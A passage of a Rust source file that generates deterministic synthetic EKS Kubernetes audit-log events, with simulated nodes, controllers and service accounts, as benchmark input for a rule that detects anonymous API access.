//! Generator of realistic EKS Kubernetes audit logs (`audit.k8s.io/v1`
//! `Event` JSON, one event per line, as EKS ships them to CloudWatch Logs).
//!
//! Output is deterministic for a given seed and options. Every field is
//! written the way the API server's Go encoder writes it: Go field order,
//! map keys sorted, `<`, `>` and `&` escaped as `\u003c`, `\u003e`, `\u0026`,
//! non-ASCII left as UTF-8, timestamps with microseconds.
//!
//! Regenerate the bundled sample (`examples/eks-audit-sample.jsonl`):
//!
//!     cargo run --example gen_audit -- --sample > examples/eks-audit-sample.jsonl
//!
//! (It lives in benches/ with the scripts that use it; Cargo builds it as a
//! dev-only example target, never installed.)
//!
//! (`--sample` is seed 2025, 440 generated events at a 5% anonymous share,
//! plus hand-written events: a phpunit exploit probe, an anonymous read of
//! secrets that RBAC allowed, kube-probe health checks from 10.0.x, a request
//! with two sourceIPs, an anonymous user without `system:unauthenticated`
//! that must not match, and a CloudWatch line cut at `[Truncated...]`.)
//!
//! Benchmark inputs (what `benches/run.sh` runs):
//!
//!     cargo run --profile profiling --example gen_audit -- --size 1G --anonymous-ratio 0.002 --seed 1 > bench-data/realistic-1g.jsonl
//!     cargo run --profile profiling --example gen_audit -- --size 500M --anonymous-ratio 1 --seed 2 > bench-data/anonymous-500m.jsonl
//!
//! Options: `cargo run --example gen_audit -- --help`.
//!
//! A summary goes to stderr: events, events that match the rule
//! (`user.username` == system:anonymous and `system:unauthenticated` in
//! `user.groups`, ASCII case-insensitive, after unescaping), lines, bytes.

use std::fmt::Write as _;
use std::io::{self, BufWriter, Write};
use std::process::exit;

const ACCOUNT: &str = "123456789012";
/// 2025-03-14T00:00:00Z in microseconds since the Unix epoch.
const START_US: i64 = 1_741_910_400 * 1_000_000;
const K8S: &str = "v1.29.10";
const K8S_COMMIT: &str = "kubernetes/0fb0e3c";

// ---------------------------------------------------------------- PRNG

/// splitmix64: tiny, fast, good enough, and the same on every platform.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }
    fn below(&mut self, n: usize) -> usize {
        (((self.next() >> 32) * n as u64) >> 32) as usize
    }
    fn range(&mut self, lo: u64, hi: u64) -> u64 {
        lo + self.next() % (hi - lo + 1)
    }
    fn f64(&mut self) -> f64 {
        (self.next() >> 11) as f64 / (1u64 << 53) as f64
    }
    fn chance(&mut self, p: f64) -> bool {
        self.f64() < p
    }
    fn pick<'a, T>(&mut self, xs: &'a [T]) -> &'a T {
        &xs[self.below(xs.len())]
    }
    fn weighted<'a, T>(&mut self, xs: &'a [(u32, T)]) -> &'a T {
        let total: u32 = xs.iter().map(|x| x.0).sum();
        let mut r = self.below(total as usize) as u32;
        for (w, x) in xs {
            if r < *w {
                return x;
            }
            r -= w;
        }
        &xs[xs.len() - 1].1
    }
    fn chars(&mut self, n: usize, alphabet: &[u8]) -> String {
        (0..n).map(|_| *self.pick(alphabet) as char).collect()
    }
    fn hex(&mut self, n: usize) -> String {
        self.chars(n, b"0123456789abcdef")
    }
    fn upper(&mut self, n: usize) -> String {
        self.chars(n, b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567")
    }
    fn lower(&mut self, n: usize) -> String {
        self.chars(n, b"bcdfghjklmnpqrstvwxz2456789")
    }
    fn uuid(&mut self) -> String {
        let a = self.hex(32);
        format!(
            "{}-{}-4{}-{}{}-{}",
            &a[0..8],
            &a[8..12],
            &a[13..16],
            *self.pick(&['8', '9', 'a', 'b']),
            &a[17..20],
            &a[20..32]
        )
    }
    /// A public unicast IPv4 address (no private, loopback, CGNAT, multicast
    /// or reserved ranges).
    fn public_ip(&mut self) -> String {
        loop {
            let (a, b) = (self.range(1, 223) as u8, self.range(0, 255) as u8);
            let private = matches!(a, 0 | 10 | 127)
                || (a == 100 && (64..128).contains(&b))
                || (a == 169 && b == 254)
                || (a == 172 && (16..32).contains(&b))
                || (a == 192 && b == 168)
                || (a == 198 && (b == 18 || b == 19));
            if !private {
                return format!("{a}.{b}.{}.{}", self.range(0, 255), self.range(1, 254));
            }
        }
    }
}

// ---------------------------------------------------------------- the event

#[derive(Default, Clone)]
struct User {
    username: String,
    uid: String,
    groups: Vec<String>,
    /// Sorted by key (Go marshals maps sorted).
    extra: Vec<(&'static str, String)>,
    /// Raw JSON overrides for edge cases (`--tricky`).
    username_json: Option<String>,
    groups_json: Option<String>,
    username_key: Option<&'static str>,
    /// Written as `"user":{}` (a refused authentication has no user).
    empty: bool,
}

#[derive(Default, Clone)]
struct ObjRef {
    resource: String,
    namespace: String,
    name: String,
    api_group: String,
    api_version: String,
    subresource: String,
}

#[derive(Clone)]
struct Status {
    code: u16,
    /// (status, message, reason, details as raw JSON)
    failure: Option<(String, &'static str, String)>,
}

/// What kubernetes `authn_audit.go` (`WithFailedAuthenticationAudit`)
/// writes as `responseStatus.message` for a request it refused with no
/// credentials. Its `responseStatus` is only `metadata`, `message`, `code`.
const NO_CREDENTIALS: &str = "Authentication failed, no credentials provided";

#[derive(Clone)]
struct Ev {
    level: &'static str,
    audit_id: String,
    stage: &'static str,
    uri: String,
    verb: String,
    user: User,
    source_ips: Vec<String>,
    user_agent: String,
    obj: Option<ObjRef>,
    status: Option<Status>,
    request_object: Option<String>,
    received_us: i64,
    stage_us: i64,
    annotations: Vec<(String, String)>,
    /// Whether the detection rule matches this event.
    matches: bool,
    /// A refused authentication (`--refused-ratio`): its `responseStatus`
    /// is `{"metadata":{},"message":NO_CREDENTIALS,"code":401}`.
    refused: bool,
}

impl Ev {
    fn write(&self, b: &mut String) {
        b.push_str(r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":""#);
        b.push_str(self.level);
        b.push_str(r#"","auditID":""#);
        b.push_str(&self.audit_id);
        b.push_str(r#"","stage":""#);
        b.push_str(self.stage);
        b.push_str(r#"","requestURI":"#);
        json_str(b, &self.uri);
        b.push_str(r#","verb":"#);
        json_str(b, &self.verb);
        b.push_str(r#","user":{"#);
        let u = &self.user;
        if !u.empty {
            b.push('"');
            b.push_str(u.username_key.unwrap_or("username"));
            b.push_str("\":");
            match &u.username_json {
                Some(raw) => b.push_str(raw),
                None => json_str(b, &u.username),
            }
            if !u.uid.is_empty() {
                b.push_str(r#","uid":"#);
                json_str(b, &u.uid);
            }
            if let Some(raw) = &u.groups_json {
                b.push_str(r#","groups":"#);
                b.push_str(raw);
            } else if !u.groups.is_empty() {
                b.push_str(r#","groups":"#);
                json_arr(b, u.groups.iter().map(String::as_str));
            }
            if !u.extra.is_empty() {
                b.push_str(r#","extra":{"#);
                for (i, (k, v)) in u.extra.iter().enumerate() {
                    if i > 0 {
                        b.push(',');
                    }
                    json_str(b, k);
                    b.push_str(":[");
                    json_str(b, v);
                    b.push(']');
                }
                b.push('}');
            }
        }
        b.push_str(r#"},"sourceIPs":"#);
        json_arr(b, self.source_ips.iter().map(String::as_str));
        if !self.user_agent.is_empty() {
            b.push_str(r#","userAgent":"#);
            json_str(b, &self.user_agent);
        }
        if let Some(o) = &self.obj {
            b.push_str(r#","objectRef":{"#);
            let mut first = true;
            for (k, v) in [
                ("resource", &o.resource),
                ("namespace", &o.namespace),
                ("name", &o.name),
                ("apiGroup", &o.api_group),
                ("apiVersion", &o.api_version),
                ("subresource", &o.subresource),
            ] {
                if !v.is_empty() {
                    if !first {
                        b.push(',');
                    }
                    first = false;
                    json_str(b, k);
                    b.push(':');
                    json_str(b, v);
                }
            }
            b.push('}');
        }
        if let Some(s) = &self.status {
            b.push_str(r#","responseStatus":{"metadata":{}"#);
            if self.refused {
                b.push_str(r#","message":"#);
                json_str(b, NO_CREDENTIALS);
            } else if let Some((message, reason, details)) = &s.failure {
                b.push_str(r#","status":"Failure","message":"#);
                json_str(b, message);
                b.push_str(r#","reason":"#);
                json_str(b, reason);
                b.push_str(r#","details":"#);
                b.push_str(details);
            }
            let _ = write!(b, r#","code":{}}}"#, s.code);
        }
        if let Some(raw) = &self.request_object {
            b.push_str(r#","requestObject":"#);
            b.push_str(raw);
        }
        b.push_str(r#","requestReceivedTimestamp":""#);
        timestamp(b, self.received_us);
        b.push_str(r#"","stageTimestamp":""#);
        timestamp(b, self.stage_us);
        b.push('"');
        if !self.annotations.is_empty() {
            let mut ann: Vec<_> = self.annotations.iter().collect();
            ann.sort();
            b.push_str(r#","annotations":{"#);
            for (i, (k, v)) in ann.into_iter().enumerate() {
                if i > 0 {
                    b.push(',');
                }
                json_str(b, k);
                b.push(':');
                json_str(b, v);
            }
            b.push('}');
        }
        b.push('}');
    }
}

/// A JSON string the way Go's encoding/json writes it (HTML-safe escaping).
fn json_str(b: &mut String, s: &str) {
    b.push('"');
    for c in s.chars() {
        match c {
            '"' => b.push_str("\\\""),
            '\\' => b.push_str("\\\\"),
            '\n' => b.push_str("\\n"),
            '\r' => b.push_str("\\r"),
            '\t' => b.push_str("\\t"),
            '<' | '>' | '&' | '\u{2028}' | '\u{2029}' => {
                let _ = write!(b, "\\u{:04x}", c as u32);
            }
            c if (c as u32) < 0x20 => {
                let _ = write!(b, "\\u{:04x}", c as u32);
            }
            c => b.push(c),
        }
    }
    b.push('"');
}

fn json_arr<'a>(b: &mut String, xs: impl Iterator<Item = &'a str>) {
    b.push('[');
    for (i, x) in xs.enumerate() {
        if i > 0 {
            b.push(',');
        }
        json_str(b, x);
    }
    b.push(']');
}

/// metav1.MicroTime: RFC 3339 UTC with exactly six fractional digits.
fn timestamp(b: &mut String, us: i64) {
    let secs = us.div_euclid(1_000_000);
    let micros = us.rem_euclid(1_000_000);
    let (days, sod) = (secs.div_euclid(86_400), secs.rem_euclid(86_400));
    // Howard Hinnant's civil_from_days.
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = doy - (153 * mp + 2) / 5 + 1;
    let m = if mp < 10 { mp + 3 } else { mp - 9 };
    let y = yoe + era * 400 + i64::from(m <= 2);
    let _ = write!(
        b,
        "{y:04}-{m:02}-{d:02}T{:02}:{:02}:{:02}.{micros:06}Z",
        sod / 3600,
        sod / 60 % 60,
        sod % 60
    );
}

// ---------------------------------------------------------------- the cluster

struct Node {
    name: String,
    ip: String,
    instance: String,
    access_key: String,
}

struct Iam {
    username: String,
    uid: String,
    role: String,
    session: String,
    access_key: String,
    principal_id: String,
    ips: Vec<String>,
}

/// A workload service account: who it is, what it calls.
struct Sa {
    ns: &'static str,
    name: &'static str,
    agent: &'static str,
    binding: &'static str,
    ops: &'static [Op],
    uid: String,
    pods: Vec<(String, String, usize)>, // (pod name, pod uid, node index)
}

/// verb, group/version ("v1" for the core group), resource, namespace
/// ("" = cluster-wide, "*" = an application namespace), name ("" = none,
/// "$node" = the caller's node, "$pod" = the caller's pod, "*" = some
/// object), subresource.
type Op = (
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    &'static str,
);

const APP_NAMESPACES: &[&str] = &[
    "default",
    "payments",
    "web",
    "checkout",
    "monitoring",
    "argocd",
    "cert-manager",
    "amazon-cloudwatch",
    "karpenter",
    "kube-system",
];
const OBJECT_NAMES: &[&str] = &[
    "api-gateway",
    "checkout-worker",
    "payments-api",
    "web-frontend",
    "redis",
    "prometheus-server",
    "grafana",
    "fluent-bit",
    "ledger-sync",
    "orders-db-migrate",
    "kube-root-ca.crt",
    "aws-auth",
    "coredns",
];
const REGIONS_NODE_DOMAIN: &str = "ec2.internal";

const KUBELET_OPS: &[(u32, Op)] = &[
    (
        30,
        (
            "update",
            "coordination.k8s.io/v1",
            "leases",
            "kube-node-lease",
            "$node",
            "",
        ),
    ),
    (10, ("get", "v1", "nodes", "", "$node", "")),
    (8, ("patch", "v1", "nodes", "", "$node", "status")),
    (
        8,
        ("watch", "v1", "configmaps", "*", "kube-root-ca.crt", ""),
    ),
    (6, ("watch", "v1", "secrets", "*", "*", "")),
    (8, ("create", "v1", "serviceaccounts", "*", "*", "token")),
    (8, ("patch", "v1", "pods", "*", "$pod", "status")),
    (6, ("get", "v1", "pods", "*", "$pod", "")),
    (4, ("watch", "v1", "pods", "", "", "")),
    (3, ("watch", "v1", "services", "", "", "")),
    (
        3,
        (
            "get",
            "storage.k8s.io/v1",
            "csidrivers",
            "",
            "ebs.csi.aws.com",
            "",
        ),
    ),
    (
        3,
        (
            "create",
            "authentication.k8s.io/v1",
            "tokenreviews",
            "",
            "",
            "",
        ),
    ),
    (
        3,
        (
            "create",
            "authorization.k8s.io/v1",
            "subjectaccessreviews",
            "",
            "",
            "",
        ),
    ),
];

const CONTROLLERS: &[(&str, &[Op])] = &[
    (
        "replicaset-controller",
        &[
            ("update", "apps/v1", "replicasets", "*", "*", "status"),
            ("create", "v1", "pods", "*", "", ""),
            ("delete", "v1", "pods", "*", "*", ""),
        ],
    ),
    (
        "deployment-controller",
        &[
            ("update", "apps/v1", "deployments", "*", "*", "status"),
            ("patch", "apps/v1", "replicasets", "*", "*", ""),
        ],
    ),
    (
        "endpointslice-controller",
        &[
            (
                "update",
                "discovery.k8s.io/v1",
                "endpointslices",
                "*",
                "*",
                "",
            ),
            (
                "create",
                "discovery.k8s.io/v1",
                "endpointslices",
                "*",
                "",
                "",
            ),
        ],
    ),
    (
        "endpoint-controller",
        &[("update", "v1", "endpoints", "*", "*", "")],
    ),
    (
        "generic-garbage-collector",
        &[
            ("list", "v1", "configmaps", "", "", ""),
            ("watch", "apps/v1", "controllerrevisions", "", "", ""),
            ("get", "apps/v1", "replicasets", "*", "*", ""),
        ],
    ),
    (
        "job-controller",
        &[
            ("update", "batch/v1", "jobs", "*", "*", "status"),
            ("create", "v1", "pods", "*", "", ""),
            ("patch", "v1", "pods", "*", "*", ""),
        ],
    ),
    (
        "cronjob-controller",
        &[
            ("create", "batch/v1", "jobs", "*", "", ""),
            ("update", "batch/v1", "cronjobs", "*", "*", "status"),
        ],
    ),
    (
        "horizontal-pod-autoscaler",
        &[
            ("get", "apps/v1", "deployments", "*", "*", "scale"),
            (
                "update",
                "autoscaling/v2",
                "horizontalpodautoscalers",
                "*",
                "*",
                "status",
            ),
        ],
    ),
    (
        "resourcequota-controller",
        &[("list", "v1", "resourcequotas", "", "", "")],
    ),
    (
        "ttl-after-finished-controller",
        &[("delete", "batch/v1", "jobs", "*", "*", "")],
    ),
    (
        "pvc-protection-controller",
        &[("get", "v1", "persistentvolumeclaims", "*", "*", "")],
    ),
    (
        "daemon-set-controller",
        &[
            (
                "update",
                "apps/v1",
                "daemonsets",
                "kube-system",
                "*",
                "status",
            ),
            (
                "create",
                "apps/v1",
                "controllerrevisions",
                "kube-system",
                "",
                "",
            ),
        ],
    ),
];

/// A control-plane user: (username, group, user agent, binding, ops, weight).
type ControlPlaneUser = (
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    &'static [Op],
    u32,
);

const CONTROL_PLANE: &[ControlPlaneUser] = &[
    (
        "system:kube-controller-manager",
        "system:authenticated",
        "kube-controller-manager/{v} (linux/amd64) {c}/leader-election",
        "RoleBinding \"system::leader-locking-kube-controller-manager/kube-system\" of Role \"system::leader-locking-kube-controller-manager\" to User \"system:kube-controller-manager\"",
        &[
            (
                "get",
                "coordination.k8s.io/v1",
                "leases",
                "kube-system",
                "kube-controller-manager",
                "",
            ),
            (
                "update",
                "coordination.k8s.io/v1",
                "leases",
                "kube-system",
                "kube-controller-manager",
                "",
            ),
        ],
        10,
    ),
    (
        "system:kube-scheduler",
        "system:authenticated",
        "kube-scheduler/{v} (linux/amd64) {c}/leader-election",
        "RoleBinding \"system::leader-locking-kube-scheduler/kube-system\" of Role \"system::leader-locking-kube-scheduler\" to User \"system:kube-scheduler\"",
        &[
            (
                "get",
                "coordination.k8s.io/v1",
                "leases",
                "kube-system",
                "kube-scheduler",
                "",
            ),
            (
                "update",
                "coordination.k8s.io/v1",
                "leases",
                "kube-system",
                "kube-scheduler",
                "",
            ),
        ],
        10,
    ),
    (
        "system:kube-scheduler",
        "system:authenticated",
        "kube-scheduler/{v} (linux/amd64) {c}/scheduler",
        "ClusterRoleBinding \"system:kube-scheduler\" of ClusterRole \"system:kube-scheduler\" to User \"system:kube-scheduler\"",
        &[
            ("create", "v1", "pods", "*", "*", "binding"),
            ("patch", "v1", "pods", "*", "*", "status"),
            ("create", "events.k8s.io/v1", "events", "*", "", ""),
        ],
        6,
    ),
    (
        "eks:cloud-controller-manager",
        "system:authenticated",
        "aws-cloud-controller-manager/v0.0.0 (linux/amd64) kubernetes/$Format/cloud-node-lifecycle-controller",
        "ClusterRoleBinding \"eks:cloud-controller-manager\" of ClusterRole \"eks:cloud-controller-manager\" to User \"eks:cloud-controller-manager\"",
        &[
            (
                "get",
                "coordination.k8s.io/v1",
                "leases",
                "kube-system",
                "cloud-controller-manager",
                "",
            ),
            (
                "update",
                "coordination.k8s.io/v1",
                "leases",
                "kube-system",
                "cloud-controller-manager",
                "",
            ),
            ("patch", "v1", "nodes", "", "$node", "status"),
            ("list", "v1", "nodes", "", "", ""),
        ],
        6,
    ),
    (
        "eks:certificate-controller",
        "system:authenticated",
        "eks-certificates-controller/v0.0.0 (linux/amd64) kubernetes/$Format",
        "ClusterRoleBinding \"eks:certificate-controller\" of ClusterRole \"system:controller:certificate-controller\" to User \"eks:certificate-controller\"",
        &[
            (
                "update",
                "coordination.k8s.io/v1",
                "leases",
                "kube-system",
                "eks-certificates-controller",
                "",
            ),
            (
                "watch",
                "certificates.k8s.io/v1",
                "certificatesigningrequests",
                "",
                "",
                "",
            ),
        ],
        4,
    ),
    (
        "eks:addon-manager",
        "system:authenticated",
        "kubectl/{v} (linux/amd64) {c}",
        "RBAC: allowed by ClusterRoleBinding \"eks:addon-manager\" of ClusterRole \"eks:addon-manager\" to User \"eks:addon-manager\"",
        &[
            (
                "get",
                "apps/v1",
                "daemonsets",
                "kube-system",
                "aws-node",
                "",
            ),
            (
                "patch",
                "apps/v1",
                "daemonsets",
                "kube-system",
                "kube-proxy",
                "",
            ),
            (
                "get",
                "apps/v1",
                "deployments",
                "kube-system",
                "coredns",
                "",
            ),
        ],
        2,
    ),
    (
        "eks:node-manager",
        "system:authenticated",
        "eks-node-manager/v0.0.0 (linux/amd64) kubernetes/$Format",
        "RoleBinding \"eks:node-manager/kube-system\" of Role \"eks:node-manager\" to User \"eks:node-manager\"",
        &[
            ("get", "v1", "configmaps", "kube-system", "aws-auth", ""),
            ("list", "v1", "pods", "kube-system", "", ""),
        ],
        2,
    ),
    (
        "eks:k8s-metrics",
        "system:authenticated",
        "eks-k8s-metrics/v0.0.0 (linux/amd64) kubernetes/$Format",
        "ClusterRoleBinding \"eks:k8s-metrics\" of ClusterRole \"eks:k8s-metrics\" to User \"eks:k8s-metrics\"",
        &[
            ("list", "v1", "nodes", "", "", ""),
            ("list", "apps/v1", "deployments", "", "", ""),
        ],
        2,
    ),
    (
        "eks:pod-identity-mutating-webhook",
        "system:authenticated",
        "amazon-eks-pod-identity-webhook/v0.0.0 (linux/amd64) kubernetes/$Format",
        "ClusterRoleBinding \"eks:pod-identity-mutating-webhook\" of ClusterRole \"eks:pod-identity-mutating-webhook\" to User \"eks:pod-identity-mutating-webhook\"",
        &[
            ("watch", "v1", "serviceaccounts", "", "", ""),
            ("get", "v1", "serviceaccounts", "*", "*", ""),
        ],
        2,
    ),
    (
        "system:apiserver",
        "system:masters",
        "kube-apiserver/{v} (linux/amd64) {c}",
        "",
        &[
            (
                "update",
                "coordination.k8s.io/v1",
                "leases",
                "kube-system",
                "$apiserver",
                "",
            ),
            (
                "get",
                "coordination.k8s.io/v1",
                "leases",
                "kube-system",
                "$apiserver",
                "",
            ),
            ("list", "v1", "namespaces", "", "", ""),
            ("get", "v1", "services", "default", "kubernetes", ""),
        ],
        8,
    ),
];

fn workload_sas() -> Vec<Sa> {
    let sa = |ns, name, agent, binding, ops| Sa {
        ns,
        name,
        agent,
        binding,
        ops,
        uid: String::new(),
        pods: Vec::new(),
    };
    vec![
        sa(
            "kube-system",
            "coredns",
            "coredns/v0.0.0 (linux/amd64) kubernetes/$Format",
            "ClusterRoleBinding \"system:coredns\" of ClusterRole \"system:coredns\"",
            &[
                ("watch", "discovery.k8s.io/v1", "endpointslices", "", "", ""),
                ("watch", "v1", "services", "", "", ""),
                ("watch", "v1", "namespaces", "", "", ""),
                ("list", "discovery.k8s.io/v1", "endpointslices", "", "", ""),
            ],
        ),
        sa(
            "kube-system",
            "kube-proxy",
            "kube-proxy/{v} (linux/amd64) {c}",
            "ClusterRoleBinding \"eks:kube-proxy\" of ClusterRole \"system:node-proxier\"",
            &[
                ("watch", "discovery.k8s.io/v1", "endpointslices", "", "", ""),
                ("watch", "v1", "services", "", "", ""),
                ("get", "v1", "nodes", "", "$node", ""),
            ],
        ),
        sa(
            "kube-system",
            "aws-node",
            "aws-node/v0.0.0 (linux/amd64) kubernetes/$Format",
            "ClusterRoleBinding \"aws-node\" of ClusterRole \"aws-node\"",
            &[
                ("get", "v1", "nodes", "", "$node", ""),
                ("patch", "v1", "pods", "kube-system", "$pod", ""),
                (
                    "list",
                    "crd.k8s.amazonaws.com/v1alpha1",
                    "eniconfigs",
                    "",
                    "",
                    "",
                ),
                ("watch", "v1", "pods", "", "", ""),
            ],
        ),
        sa(
            "kube-system",
            "ebs-csi-controller-sa",
            "csi-attacher/v4.6.1 (linux/amd64) kubernetes/$Format",
            "ClusterRoleBinding \"ebs-csi-attacher-binding\" of ClusterRole \"ebs-external-attacher-role\"",
            &[
                (
                    "update",
                    "coordination.k8s.io/v1",
                    "leases",
                    "kube-system",
                    "external-attacher-leader-ebs-csi-aws-com",
                    "",
                ),
                (
                    "watch",
                    "storage.k8s.io/v1",
                    "volumeattachments",
                    "",
                    "",
                    "",
                ),
                ("watch", "v1", "persistentvolumes", "", "", ""),
                (
                    "patch",
                    "storage.k8s.io/v1",
                    "volumeattachments",
                    "",
                    "*",
                    "status",
                ),
            ],
        ),
        sa(
            "kube-system",
            "aws-load-balancer-controller",
            "controller/v0.0.0 (linux/amd64) kubernetes/$Format",
            "ClusterRoleBinding \"aws-load-balancer-controller-rolebinding\" of ClusterRole \"aws-load-balancer-controller-role\"",
            &[
                (
                    "update",
                    "coordination.k8s.io/v1",
                    "leases",
                    "kube-system",
                    "aws-load-balancer-controller-leader",
                    "",
                ),
                (
                    "get",
                    "coordination.k8s.io/v1",
                    "leases",
                    "kube-system",
                    "aws-load-balancer-controller-leader",
                    "",
                ),
                (
                    "watch",
                    "elbv2.k8s.aws/v1beta1",
                    "targetgroupbindings",
                    "",
                    "",
                    "",
                ),
                ("watch", "networking.k8s.io/v1", "ingresses", "", "", ""),
            ],
        ),
        sa(
            "karpenter",
            "karpenter",
            "karpenter/v1.0.8",
            "ClusterRoleBinding \"karpenter-core\" of ClusterRole \"karpenter-core\"",
            &[
                (
                    "update",
                    "coordination.k8s.io/v1",
                    "leases",
                    "kube-system",
                    "karpenter-leader-election",
                    "",
                ),
                ("list", "karpenter.sh/v1", "nodepools", "", "", ""),
                ("watch", "karpenter.sh/v1", "nodeclaims", "", "", ""),
                ("list", "v1", "pods", "", "", ""),
                ("patch", "karpenter.sh/v1", "nodeclaims", "", "*", "status"),
            ],
        ),
        sa(
            "kube-system",
            "metrics-server",
            "metrics-server/v0.7.2 (linux/amd64) kubernetes/$Format",
            "ClusterRoleBinding \"system:metrics-server\" of ClusterRole \"system:metrics-server\"",
            &[
                ("list", "v1", "nodes", "", "", ""),
                ("watch", "v1", "nodes", "", "", ""),
                (
                    "get",
                    "v1",
                    "configmaps",
                    "kube-system",
                    "extension-apiserver-authentication",
                    "",
                ),
            ],
        ),
        sa(
            "amazon-cloudwatch",
            "cloudwatch-agent",
            "cwagent/v0.0.0 (linux/amd64) kubernetes/$Format",
            "ClusterRoleBinding \"cloudwatch-agent-role-binding\" of ClusterRole \"cloudwatch-agent-role\"",
            &[
                ("list", "v1", "pods", "", "", ""),
                (
                    "get",
                    "v1",
                    "configmaps",
                    "amazon-cloudwatch",
                    "cwagent-clusterleader",
                    "",
                ),
                (
                    "update",
                    "v1",
                    "configmaps",
                    "amazon-cloudwatch",
                    "cwagent-clusterleader",
                    "",
                ),
            ],
        ),
        sa(
            "argocd",
            "argocd-application-controller",
            "argocd-application-controller/v2.12.4 (linux/amd64)",
            "ClusterRoleBinding \"argocd-application-controller\" of ClusterRole \"argocd-application-controller\"",
            &[
                (
                    "watch",
                    "argoproj.io/v1alpha1",
                    "applications",
                    "argocd",
                    "",
                    "",
                ),
                (
                    "patch",
                    "argoproj.io/v1alpha1",
                    "applications",
                    "argocd",
                    "*",
                    "",
                ),
                ("list", "apps/v1", "deployments", "", "", ""),
                ("get", "v1", "secrets", "argocd", "argocd-secret", ""),
            ],
        ),
        sa(
            "cert-manager",
            "cert-manager",
            "cert-manager-controller/v1.15.3 (linux/amd64) cert-manager/leader-election",
            "ClusterRoleBinding \"cert-manager-controller-certificates\" of ClusterRole \"cert-manager-controller-certificates\"",
            &[
                (
                    "update",
                    "coordination.k8s.io/v1",
                    "leases",
                    "kube-system",
                    "cert-manager-controller",
                    "",
                ),
                ("watch", "cert-manager.io/v1", "certificates", "", "", ""),
            ],
        ),
    ]
}

struct World {
    nodes: Vec<Node>,
    sas: Vec<Sa>,
    controller_uids: Vec<String>,
    admin: Iam,
    deployer: Iam,
    scanners: Vec<String>,
    apiserver_lease: String,
    now_us: i64,
    /// Largest gap between two events (microseconds).
    max_step_us: u64,
    rv: u64,
}

impl World {
    fn new(rng: &mut Rng) -> World {
        let nodes: Vec<Node> = (0..12)
            .map(|_| {
                let (c, d) = (
                    *rng.pick(&[16u64, 17, 48, 49, 80, 81]) + rng.range(0, 7),
                    rng.range(2, 254),
                );
                Node {
                    name: format!("ip-10-0-{c}-{d}.{REGIONS_NODE_DOMAIN}"),
                    ip: format!("10.0.{c}.{d}"),
                    instance: format!("i-0{}", rng.hex(16)),
                    access_key: format!("ASIA{}", rng.upper(16)),
                }
            })
            .collect();
        let mut sas = workload_sas();
        for sa in &mut sas {
            sa.uid = rng.uuid();
            let per_node = matches!(sa.name, "kube-proxy" | "aws-node");
            let n = if per_node { nodes.len() } else { 2 };
            let prefix = format!("{}-{}", sa.name.trim_end_matches("-sa"), rng.lower(10));
            for i in 0..n {
                let pod = if per_node {
                    format!("{}-{}", sa.name, rng.lower(5))
                } else {
                    format!("{prefix}-{}", rng.lower(5))
                };
                let node = if per_node { i } else { rng.below(nodes.len()) };
                sa.pods.push((pod, rng.uuid(), node));
            }
        }
        let iam =
            |rng: &mut Rng, username: Option<&str>, role: &str, session: &str, ips: Vec<String>| {
                let principal_id = format!("AROA{}", rng.upper(17));
                Iam {
                    username: username.map_or_else(
                        || format!("arn:aws:sts::{ACCOUNT}:assumed-role/{role}/{session}"),
                        str::to_owned,
                    ),
                    uid: format!("aws-iam-authenticator:{ACCOUNT}:{principal_id}"),
                    role: role.to_owned(),
                    session: session.to_owned(),
                    access_key: format!("ASIA{}", rng.upper(16)),
                    principal_id,
                    ips,
                }
            };
        let office = vec![rng.public_ip(), rng.public_ip()];
        let admin = iam(
            rng,
            Some("kubernetes-admin"),
            "EKSClusterAdmin",
            "alice@example.com",
            office,
        );
        let ci = vec![rng.public_ip(), rng.public_ip(), rng.public_ip()];
        let deployer = iam(rng, None, "github-actions-deploy", "GitHubActions", ci);
        let scanners = (0..400).map(|_| rng.public_ip()).collect();
        let controller_uids = CONTROLLERS.iter().map(|_| rng.uuid()).collect();
        World {
            nodes,
            sas,
            controller_uids,
            admin,
            deployer,
            scanners,
            apiserver_lease: format!("apiserver-{}", rng.lower(26)),
            now_us: START_US,
            max_step_us: 1300,
            rv: 48_213_077,
        }
    }

    /// Advance the clock (about 1,500 events a second) and start an event.
    fn base(&mut self, rng: &mut Rng) -> Ev {
        self.now_us += rng.range(0, self.max_step_us) as i64;
        self.rv += rng.range(0, 9);
        Ev {
            level: "Metadata",
            audit_id: rng.uuid(),
            stage: "ResponseComplete",
            uri: String::new(),
            verb: String::new(),
            user: User::default(),
            source_ips: Vec::new(),
            user_agent: String::new(),
            obj: None,
            status: Some(Status {
                code: 200,
                failure: None,
            }),
            request_object: None,
            received_us: self.now_us,
            stage_us: self.now_us + latency_us(rng),
            annotations: Vec::new(),
            matches: false,
            refused: false,
        }
    }

    fn authenticated(&mut self, rng: &mut Rng) -> Ev {
        let mut ev = self.base(rng);
        let node = rng.below(self.nodes.len());
        let pick = rng.below(1000);
        let (op, reason): (Op, String) = if pick < 230 {
            // kubelet, via aws-iam-authenticator and the node instance role
            let n = &self.nodes[node];
            let role = "eks-prod-ng-general-NodeInstanceRole-7Q2WD5Y1ZK3M";
            ev.user = User {
                username: format!("system:node:{}", n.name),
                uid: format!("aws-iam-authenticator:{ACCOUNT}:AROAXR7KJ2W6HN3QEXAMP"),
                groups: vec![
                    "system:bootstrappers".into(),
                    "system:nodes".into(),
                    "system:authenticated".into(),
                ],
                extra: vec![
                    ("accessKeyId", n.access_key.clone()),
                    (
                        "arn",
                        format!("arn:aws:sts::{ACCOUNT}:assumed-role/{role}/{}", n.instance),
                    ),
                    (
                        "canonicalArn",
                        format!("arn:aws:iam::{ACCOUNT}:role/{role}"),
                    ),
                    ("principalId", "AROAXR7KJ2W6HN3QEXAMP".into()),
                    ("sessionName", n.instance.clone()),
                    (
                        "sigs.k8s.io/aws-iam-authenticator/principalArn",
                        format!("arn:aws:iam::{ACCOUNT}:role/{role}"),
                    ),
